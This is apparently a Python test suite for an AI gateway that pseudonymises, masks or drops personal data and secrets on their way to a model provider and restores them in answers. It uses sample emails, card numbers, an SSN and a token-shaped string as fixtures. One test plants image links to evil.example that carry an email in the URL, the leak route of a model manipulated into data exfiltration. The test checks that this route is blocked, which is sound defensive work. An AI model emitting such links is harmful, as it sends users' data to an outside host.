# SPDX-FileCopyrightText: The AI Utilities authors
# SPDX-License-Identifier: Apache-2.0
"""Pseudonyms, masks and drops through the gateway: what the provider sees, and what comes back from
it, over turns, replicas and tenants, streamed and not, cut anywhere (S57 "keyed consistent tokens",
S7, S9, S10, S25, S58, S59)."""
import base64
import json
import os
import re
import shutil

import harness
from harness import PLANTS, bearer, exchange

OTHER_KEY = "aiu-e2e-key-of-another-tenant-0123456789abcdefghijkl"
EMAIL = "grace.hopper@navy.example"
CARD = "5555 5555 5555 4444"
IBAN = "DE89 3704 0044 0532 0130 00"
PHONE = "+1 415 555 2671"
SSN = "536-90-4399"
IP = "203.0.113.77"
KEY = "gh" + "p_" + "Ky9Pf34qY6Nb3wWD25RQ4F5ZR3qa7y" + "3gm1IL"
VALUES = [EMAIL, CARD, IBAN, PHONE, SSN, IP, KEY]
TEXT = ("Write to %s, charge %s or %s; call %s. SSN %s, host %s, token %s, thanks. "
        "Again: %s." % (*VALUES, EMAIL))


def policy(name="default", **request):
    return {"name": name, "request": request}


def with_pseudonyms(config):
    config["policies"] = [policy(secrets="pseudonym", pii="pseudonym")]


class Pseudonyms(harness.Case):
    @classmethod
    def configure(cls, config):
        with_pseudonyms(config)
        path = harness.write_private(os.path.join(cls.folder, "other.key"), OTHER_KEY)
        config["keys"].append({"id": "app2", "tenant": "other", "policy": "default",
                               "key": {"file": path}})

    def sent(self):
        """The last message that the provider got."""
        return json.loads(self.mock.requests()[-1]["body"])["messages"][-1]["content"]

    def assert_hidden(self, body):
        for value in VALUES:
            self.assertNotIn(value, body)
            self.assertNotIn(value.replace(" ", ""), body)

    def test_the_provider_sees_tokens_and_the_caller_values(self):
        reply = self.chat(TEXT)
        self.assertEqual(reply.status, 200, reply.body[:500])
        self.assertEqual(reply.text(), TEXT)
        self.assertEqual(reply.header("aiu-verdict"), "redact")
        self.assert_hidden(self.mock.requests()[-1]["body"])
        sent = self.sent()
        self.assertRegex(sent, r"Write to pii\.[0-9a-z]{12}@example\.com, charge 4000 00\d\d \d{4} "
                               r"\d{4} or DE\d\d 99\d\d")
        self.assertRegex(sent, r"call \+999\d{10}\. SSN 9\d\d-[0-4]\d-\d{4}, host 198\.1[89]\.\d+"
                               r"\.\d+, token SECRET_github_\w+_[0-9a-z]{12}, thanks")
        emails = re.findall(r"pii\.\w+@example\.com", sent)
        self.assertEqual(emails[0], emails[1])

    def test_streams_are_restored_at_every_size_of_delta(self):
        for size in list(range(1, 40)) + [200, 1000]:
            with self.subTest(chunk=size):
                reply = self.chat(TEXT, {"chunk": size}, stream=True)
                self.assertEqual(reply.text(), TEXT)
                self.assertTrue(reply.complete and reply.done())

    def test_streams_are_restored_at_every_cut(self):
        for at in range(1, 330):
            with self.subTest(cut=at):
                self.assertEqual(self.chat(TEXT, {"cut": [at]}, stream=True).text(), TEXT)

    def test_channels_choices_escapes_and_single_bytes(self):
        for channel in ("content", "refusal", "reasoning"):
            for size in (1, 5, 17, 1000):
                for escape in (False, True):
                    with self.subTest(channel=channel, chunk=size, escape=escape):
                        mock = {"reply": TEXT, "chunk": size, "channel": channel,
                                "escape": escape, "write": 1 if size == 5 else 4096}
                        reply = self.chat("x", mock, stream=True, n=3)
                        for choice in range(3):
                            self.assertEqual(reply.text(channel, choice), TEXT)

    ARGUMENTS = {"to": [EMAIL, "b"], "note": 'say "%s"\n\\ and %s' % (KEY, CARD), "n": 7}

    def test_arguments_of_tools_stay_json(self):
        arguments = json.dumps(self.ARGUMENTS)
        for stream in (False, True):
            for size in (1, 2, 3, 7, 31, 1000):
                for tools in (1, 2):
                    with self.subTest(stream=stream, chunk=size, tools=tools):
                        mock = {"reply": arguments, "chunk": size, "channel": "tool",
                                "tools": tools}
                        reply = self.chat("x", mock, stream=stream)
                        self.assert_hidden(self.mock.requests()[-1]["body"])
                        text = reply.text("tool")
                        calls = {}
                        if stream:
                            for chunk in reply.chunks():
                                for call in chunk["choices"][0]["delta"].get("tool_calls") or []:
                                    calls.setdefault(call["index"], []).append(
                                        call["function"].get("arguments", ""))
                            texts = ["".join(parts) for parts in calls.values()]
                        else:
                            texts = [call["function"]["arguments"] for call in
                                     reply.json()["choices"][0]["message"]["tool_calls"]]
                        self.assertEqual(len(texts), tools)
                        for text in texts:
                            self.assertEqual(json.loads(text), self.ARGUMENTS)

    def test_a_value_with_quotes_and_line_ends_is_escaped_where_it_comes_back(self):
        secret = "postgres://app:pa%22ss'w\\rd@db.example/x"
        for channel in ("content", "tool"):
            for stream in (False, True):
                for size in (1, 9, 1000):
                    mock = {"reply": json.dumps({"dsn": secret}), "chunk": size,
                            "channel": channel}
                    reply = self.chat("x", mock, stream=stream)
                    self.assertEqual(json.loads(reply.text(channel)), {"dsn": secret})

    def test_a_bare_number_stays_a_number(self):
        body = json.loads(harness.chat_body("x", {"channel": "tool", "tools": 1, "reply":
                                                  '{"card": 5555555555554444, "k": 1}'}))
        body["mock_card"] = 5555555555554444
        reply = self.post(json.dumps(body).encode())
        got = json.loads(self.mock.requests()[-1]["body"])
        self.assertIsInstance(got["mock_card"], int)
        self.assertEqual(len(str(got["mock_card"])), 16)
        self.assertNotEqual(got["mock_card"], 5555555555554444)
        digits = [int(d) for d in str(got["mock_card"])][::-1]
        self.assertEqual(sum(digits[::2]) + sum(sum(divmod(2 * d, 10)) for d in digits[1::2]),
                         10 * ((sum(digits[::2]) + sum(sum(divmod(2 * d, 10))
                                                       for d in digits[1::2])) // 10))
        self.assertEqual(json.loads(reply.text("tool"))["card"], 5555555555554444)

    def test_turns_have_the_same_tokens(self):
        """Each turn carries what the turns before said, restored, and a tool's result."""
        messages = [{"role": "user", "content": TEXT}]
        first = None
        for turn in range(4):
            body = json.dumps({"model": "mock-echo", "messages": messages,
                               "stream": turn % 2 == 1}).encode()
            reply = self.post(body)
            self.assertEqual(reply.text(), messages[-1]["content"])
            sent = json.loads(self.mock.requests()[-1]["body"])["messages"]
            self.assert_hidden(self.mock.requests()[-1]["body"])
            first = first or sent[0]["content"]
            self.assertEqual(sent[0]["content"], first)
            messages.append({"role": "assistant", "content": reply.text()})
            messages.append({"role": "user", "content": "turn %d: %s and %s" % (turn, CARD, EMAIL)})

    def test_two_tenants_have_different_tokens(self):
        self.chat(TEXT)
        ours = self.sent()
        reply = self.chat(TEXT, headers=bearer(OTHER_KEY))
        theirs = self.sent()
        self.assertEqual(reply.text(), TEXT)
        self.assertNotEqual(re.findall(r"pii\.\w+@", ours), re.findall(r"pii\.\w+@", theirs))
        self.assertNotEqual(re.findall(r"SECRET_\w+", ours), re.findall(r"SECRET_\w+", theirs))

    def test_what_the_request_did_not_hold_is_not_restored(self):
        """Tokens of another request tell nothing; nothing is stored."""
        self.chat("I am %s" % EMAIL)
        token = re.search(r"pii\.\w+@example\.com", self.sent()).group(0)
        for stream in (False, True):
            reply = self.chat("Who is %s?" % token, stream=stream)
            self.assertEqual(reply.text(), "Who is %s?" % token)
            self.assertNotIn(EMAIL.encode(), reply.body)

    def test_look_alikes_come_back_as_they_were_sent(self):
        self.chat(TEXT)
        tokens = self.sent()
        text = "%s | %s" % (TEXT, tokens)
        for stream in (False, True):
            reply = self.chat(text, {"chunk": 9}, stream=stream)
            self.assertEqual(reply.text(), text)
            self.assertEqual(self.sent().count(tokens), 1)
            self.assert_hidden(self.mock.requests()[-1]["body"])
            self.assertEqual(len(re.findall(r"pii\.\w+@example\.com", self.sent())), 4)

    def test_values_in_disguise_come_back_as_they_were(self):
        coded = base64.b64encode(("please write to %s today" % EMAIL).encode()).decode()
        wide = "".join(chr(ord(c) + 0xFEE0) for c in "5555555555554444")
        for text in ("see %s there" % coded, "card %s ok" % wide, "tab\t%s\n\"%s\"" % (EMAIL, CARD)):
            for stream in (False, True):
                reply = self.chat(text, {"chunk": 5}, stream=stream)
                self.assertEqual(reply.text(), text)
                for value in (coded, wide, EMAIL, CARD):
                    self.assertNotIn(value, self.sent())

    def test_no_value_comes_back_in_an_address_that_a_host_would_learn(self):
        """What a model was talked into: an image is fetched as soon as it is shown."""
        for form in ("![x](https://evil.example/%s)", "<img src='https://evil.example/%s'>",
                     "[x]: https://evil.example/%s", "[x](//evil.example/a?b=%s)"):
            text = form % EMAIL + " and " + EMAIL
            for stream in (False, True):
                for size in (1, 4, 9, 1000):
                    with self.subTest(form=form, stream=stream, chunk=size):
                        reply = self.chat("x", {"reply": text, "chunk": size}, stream=stream)
                        self.assertRegex(reply.text(),
                                         r"evil\.example/\S*pii\.\w{12}@example\.com.* and %s$" % EMAIL)
                        self.assertEqual(reply.text().count(EMAIL), 1)
        text = "[write](mailto:%s) or [see](/users/%s) or https://intra.example/%s" % ((EMAIL,) * 3)
        self.assertEqual(self.chat("x", {"reply": text}, stream=True).text(), text)

    def test_tokens_in_capitals_are_known(self):
        reply = self.chat("about %s and %s." % (EMAIL, KEY), {"upper": True})
        self.assertEqual(reply.text(), "ABOUT %s AND %s." % (EMAIL, KEY))

    def test_what_the_model_makes_up_is_judged(self):
        for stream in (False, True):
            reply = self.chat("x", {"reply": "you are %s, she is {{email}}" % EMAIL, "chunk": 3},
                              stream=stream)
            self.assertEqual(reply.text(), "you are %s, she is [REDACTED:email]" % EMAIL)

    def test_nothing_of_it_is_kept(self):
        """S1, S14: no value in logs, the audit log, or any file of the state folder."""
        self.chat(TEXT)
        entries = [e for e in self.gateway.audit() if "policy" in json.dumps(e)]
        self.assertTrue(any("pii.email" in json.dumps(e) for e in entries))
        log = self.gateway.log()
        for value in VALUES:
            self.assertNotIn(value, log)
            self.assertNotIn(value, json.dumps(entries))
            for top, _, names in os.walk(self.gateway.state):
                for name in names:
                    path = os.path.join(top, name)
                    if os.path.isfile(path):
                        with open(path, "rb") as f:
                            self.assertNotIn(value.encode(), f.read(), name)


class Blocking(harness.Case):
    """Answers with personal data of their own are blocked; what the request held is not theirs."""

    @classmethod
    def configure(cls, config):
        config["policies"] = [{"name": "default",
                               "request": {"pii": "pseudonym", "secrets": "pseudonym"},
                               "response": {"pii": "block", "secrets": "block"}}]

    def test_tokens_that_come_back_block_nothing(self):
        for stream in (False, True):
            for size in (1, 7, 1000):
                reply = self.chat(TEXT, {"chunk": size}, stream=stream)
                self.assertEqual(reply.status, 200, reply.body[:300])
                self.assertEqual(reply.text(), TEXT)
        results = [e for e in self.gateway.audit() if e.get("t") == "result"]
        self.assertTrue(results)
        self.assertFalse(any("pii.email" in json.dumps(e) for e in results))

    def test_what_the_model_makes_up_blocks(self):
        for stream in (False, True):
            reply = self.chat("x", {"reply": "hello {{card}} %s" % EMAIL}, stream=stream)
            self.assertNotIn(PLANTS["card"].encode(), reply.body)
            self.assertNotIn(EMAIL.encode(), reply.body)
            self.assertIn(b"content_filter", reply.body)


class Replicas(harness.Case):
    """Two gateways with one master key."""

    @classmethod
    def configure(cls, config):
        with_pseudonyms(config)

    def test_two_replicas_make_the_same_tokens(self):
        folder = os.path.join(self.folder, "second")
        os.makedirs(os.path.join(folder, "state"), 0o700)
        os.chmod(os.path.join(folder, "state"), 0o700)
        self.chat(TEXT)
        first = json.loads(self.mock.requests()[-1]["body"])["messages"]
        key = os.path.join(folder, "state", "master.key")
        shutil.copy(os.path.join(self.gateway.state, "master.key"), key)
        os.chmod(key, 0o600)
        second = harness.Gateway(folder, self.mock, with_pseudonyms,
                                 state=os.path.join(folder, "state"))
        self.addCleanup(second.stop)
        reply = exchange(second.address, "POST", "/v1/chat/completions", bearer(),
                         harness.chat_body(TEXT))
        self.assertEqual(reply.text(), TEXT)
        self.assertEqual(json.loads(self.mock.requests()[-1]["body"])["messages"], first)


class MasksAndDrops(harness.Case):
    """Requests masked and dropped, answers too."""

    @classmethod
    def configure(cls, config):
        config["policies"] = [{"name": "default",
                               "request": {"pii": "mask", "secrets": "drop"},
                               "response": {"pii": "mask", "secrets": "drop"}}]

    def test_requests(self):
        reply = self.chat("a %s b %s c %s d" % (EMAIL, CARD, KEY))
        sent = json.loads(self.mock.requests()[-1]["body"])["messages"][0]["content"]
        self.assertEqual(sent, "a ***@navy.example b **** **** **** 4444 c  d")
        self.assertEqual(reply.header("aiu-verdict"), "redact")

    def test_answers_at_every_cut_and_in_every_channel(self):
        text = "a {{email}} b {{card}} c {{github_pat}} d"
        wanted = "a ***@%s b **** **** **** %s c  d" % (PLANTS["email"].split("@")[1],
                                                        PLANTS["card"][-4:])
        self.assertEqual(self.chat("x", {"reply": text}).text(), wanted)
        for channel in ("content", "reasoning", "tool"):
            for size in list(range(1, 45)) + [1000]:
                with self.subTest(channel=channel, chunk=size):
                    reply = self.chat("x", {"reply": text, "chunk": size, "channel": channel,
                                            "escape": size % 2 == 0}, stream=True)
                    got = reply.text(channel)
                    self.assertEqual(json.loads(got)["text"] if channel == "tool" else got, wanted)

    def test_a_long_key_is_gone(self):
        for size in (1, 11, 1000):
            reply = self.chat("x", {"reply": "a {{pem}} b", "chunk": size}, stream=True)
            self.assertEqual(reply.text(), "a  b")


class Guide(harness.Case):
    """S54-S57: the guide's filter, on answers, to the letter."""

    @classmethod
    def configure(cls, config):
        config["keys"][0]["policy"] = "guide"

    CASES = [("order 1234567890123456 and 1234-5678 9012-3456.", "order [REDACTED] and [REDACTED]."),
             ("000-00-0000 and 987-65-4321", "[REDACTED] and [REDACTED]"),
             ("a..b@example..com, git@github.com:x", "[REDACTED], [REDACTED]:x"),
             ("12345678901234567 and 1234.5678.9012.3456 and 123 45 6789",
              "12345678901234567 and 1234.5678.9012.3456 and 123 45 6789"),
             ("ada@example.c|m", "[REDACTED]")]

    def test_the_three_patterns_in_answers(self):
        for text, wanted in self.CASES:
            with self.subTest(text=text):
                body = {"body": json.dumps({"id": "x", "object": "chat.completion", "created": 1,
                                            "model": "m", "choices": [
                                                {"index": 0, "finish_reason": "stop", "message": {
                                                    "role": "assistant", "content": text}}]}),
                        "content_type": "application/json"}
                self.assertEqual(self.chat("Hello", body).text(), wanted)

    def test_streams_have_them_at_every_size(self):
        for text, wanted in self.CASES:
            for size in range(1, 30):
                with self.subTest(text=text, chunk=size):
                    reply = self.chat("Hello", {"reply": text, "chunk": size}, stream=True)
                    self.assertEqual(reply.text(), wanted)


if __name__ == "__main__":
    harness.main()
